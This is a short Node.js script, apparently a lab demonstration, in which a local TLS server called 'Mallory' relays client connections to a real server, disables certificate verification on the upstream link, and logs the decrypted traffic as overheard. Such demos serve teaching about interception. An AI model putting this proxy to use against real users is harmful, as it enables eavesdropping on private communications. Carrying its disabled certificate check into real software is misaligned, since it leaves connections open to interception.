import { readFileSync } from 'node:fs'
import { pipeline } from 'node:stream'
import { connect, createServer } from 'node:tls'
import { inspect } from 'node:util'

const host = '127.0.0.1'
const key = readFileSync('certs/mallory.key')
const cert = readFileSync('certs/mallory.crt')
const real = { port: 12345, rejectUnauthorized: false, allowHalfOpen: true }

const sock = createServer({ key, cert, allowHalfOpen: true }, victim => {
  const server = connect({ host, ...real })
  victim.on('data', data => console.log(`Overheard: ${inspect(`${data}`)}`))
  pipeline(victim, server, victim, () => {})
})
sock.listen(12346, host, () => console.log('Mallory is at port 12346'))
